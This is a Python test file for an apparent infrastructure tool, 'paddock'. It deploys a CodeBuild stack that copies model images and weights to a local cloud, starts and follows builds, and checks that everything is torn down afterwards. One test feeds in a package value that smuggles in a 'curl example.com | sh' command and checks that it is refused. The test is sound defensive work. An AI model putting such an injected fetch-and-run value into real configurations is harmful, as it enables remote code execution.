"""The build that copies images and weights: up, checked by pack and proof, started and followed, nothing left.

Not proved: a build by CodeBuild itself. What it would run is run in tests/unit/weights/test_ingest_project.py.
"""

import json
import subprocess
import sys
from pathlib import Path

from local.aws.leftovers import list_leftovers
from local.processes.cloud import LocalCloud
from paddock.privacy.proof import prove, read_inventory
from tests.local.stack import ROOT, Stack

PACKAGE = f"paddock[images] @ https://example.com/paddock-0.1.0-py3-none-any.whl#sha256={64 * '0'}"


def program(cloud: LocalCloud, folder: Path, package: str, name: str) -> Stack:
    accepted = {"license": "llama3.2", "by": "the test", "on": "2026-11-24"}
    config = {"aws:region": "us-east-1", "ingest:package": package, "paddock:license": accepted}
    return Stack.of_program(ROOT / "tests" / "local" / "programs" / "ingest", name, config, cloud.environment(), folder)


def paddock(stack: Stack, *arguments: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "paddock", *arguments, "--stack-file", str(stack.folder / f"Pulumi.{stack.name}.yaml")],
        env=dict(stack.environment),
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )


def test_the_build_goes_up_under_the_pack_is_named_by_the_proof_is_followed_and_leaves_nothing(
    cloud: LocalCloud, tmp_path: Path
) -> None:
    stack = program(cloud, tmp_path / "program", PACKAGE, "images")
    stack.up("--policy-pack", str(ROOT / "policy"))
    assert stack.preview() == []
    assert stack.outputs()["project"] == "llama-images-ingest"
    (project,) = [each for each in stack.resources() if each["type"] == "aws:codebuild/project:Project"]
    assert "vpcConfig" not in project["inputs"]
    assert not project["inputs"]["environment"]["privilegedMode"]
    proof = prove(read_inventory(stack.run("stack", "export").stdout))
    assert [edge.rule for edge in proof.elsewhere] == ["build"]
    assert "build" not in {edge.rule for edge in proof.reasons}

    detached = paddock(stack, "ingest", "start", "images", "--no-images", "--detach", "--json")
    assert detached.returncode == 0, detached.stderr
    build = json.loads(detached.stdout)
    assert (build["status"], build["images"], build["weights"]) == ("IN_PROGRESS", False, True)
    joined = paddock(stack, "ingest", "start", "images", "--no-images", "--json")
    assert joined.returncode == 0, joined.stderr
    assert (json.loads(joined.stdout)["build"], json.loads(joined.stdout)["status"]) == (build["build"], "SUCCEEDED")
    assert "-- BUILD succeeded" in joined.stderr
    second = json.loads(paddock(stack, "ingest", "start", "images", "--no-weights", "--detach", "--json").stdout)
    other = paddock(stack, "ingest", "start", "images", "--detach")
    assert (other.returncode, "copies something else" in other.stderr) == (2, True), other.stderr
    newest = json.loads(paddock(stack, "ingest", "follow", "images", "--json").stdout)
    assert (newest["build"], newest["status"]) == (second["build"], "SUCCEEDED")

    stack.destroy()
    assert list_leftovers(cloud.environment()["AWS_ENDPOINT_URL"], "us-east-1") == []
    gone = paddock(stack, "ingest", "follow", "images")
    assert (gone.returncode, "set paddock:ingest_package" in gone.stderr) == (2, True)


def test_a_package_that_could_change_is_refused_in_one_message(cloud: LocalCloud, tmp_path: Path) -> None:
    stack = program(cloud, tmp_path / "program", "paddock[images]; curl example.com | sh", "refused")
    refused = stack.run("preview", check=False)
    assert refused.returncode != 0
    assert "package must be `paddock[images] @ https" in refused.stdout
    assert "Traceback" not in refused.stdout
